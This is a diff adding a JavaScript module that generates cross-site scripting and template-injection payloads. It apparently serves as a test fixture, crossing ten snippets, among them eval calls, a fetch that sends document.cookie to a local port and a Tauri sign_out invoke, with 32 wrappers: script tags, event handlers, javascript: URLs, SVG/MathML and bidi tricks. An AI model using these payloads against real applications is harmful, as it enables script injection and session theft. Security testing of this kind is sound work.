@@ -1,0 +1,51 @@
+// Texts that run where a text is taken for markup, for a template, or for a link: 32 ways in, 10 ways to say it.
+
+const CODES = [
+  "injected=1",
+  "self['inj'+'ected']=1",
+  "top.injected=1",
+  "eval('injected=1')",
+  "Function('injected=1')()",
+  "setTimeout('injected=1')",
+  "globalThis[`injected`]=1",
+  "import('data:text/javascript,self.injected=1')",
+  "fetch('http://127.0.0.1:9/'+document.cookie).finally(()=>injected=1)",
+  "window.__TAURI_INTERNALS__.invoke('call',{name:'sign_out',request:{}}),injected=1",
+];
+
+const WAYS = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<ScRiPt >${code}</sCrIpT >`,
+  (code) => `<img src=x onerror="${code}">`,
+  (code) => `<img src=x onerror=${code}//`,
+  (code) => `"><img src=x onerror="${code}">`,
+  (code) => `'><svg onload="${code}">`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
+  (code) => `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
+  (code) => `<iframe src="javascript:${code}"></iframe>`,
+  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
+  (code) => `<object data="javascript:${code}"></object>`,
+  (code) => `<embed src="data:text/html,<script>${code}</script>">`,
+  (code) => `<a href="javascript:${code}">اضغط هنا</a>`,
+  (code) => `javascript:${code}`,
+  (code) => `JaVaScRiPt:\u00a0${code}`,
+  (code) => `data:text/html,<script>${code}</script>`,
+  (code) => `https://example.com/"onmouseover="${code}`,
+  (code) => `https://example.com/'><script>${code}</script>`,
+  (code) => `<details open ontoggle="${code}">`,
+  (code) => `<input autofocus onfocus="${code}">`,
+  (code) => `<video><source onerror="${code}"></video>`,
+  (code) => `<body onload="${code}">`,
+  (code) => `<style>@import 'javascript:${code}';</style>`,
+  (code) => `<div style="background:url(javascript:${code})">`,
+  (code) => `<base href="javascript:${code}//">`,
+  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
+  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
+  (code) => `<template><script>${code}</script></template><noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  (code) => `{{constructor.constructor('${code.replaceAll("'", "\\'")}')()}}`,
+  (code) => "${" + code + "}",
+  (code) => `{ $name }\u202e<script>${code}</script>\u2066&lt;script&gt;${code}&lt;/script&gt;`,
+];
+
+export const payloads = WAYS.flatMap((way) => CODES.map((code) => way(code)));
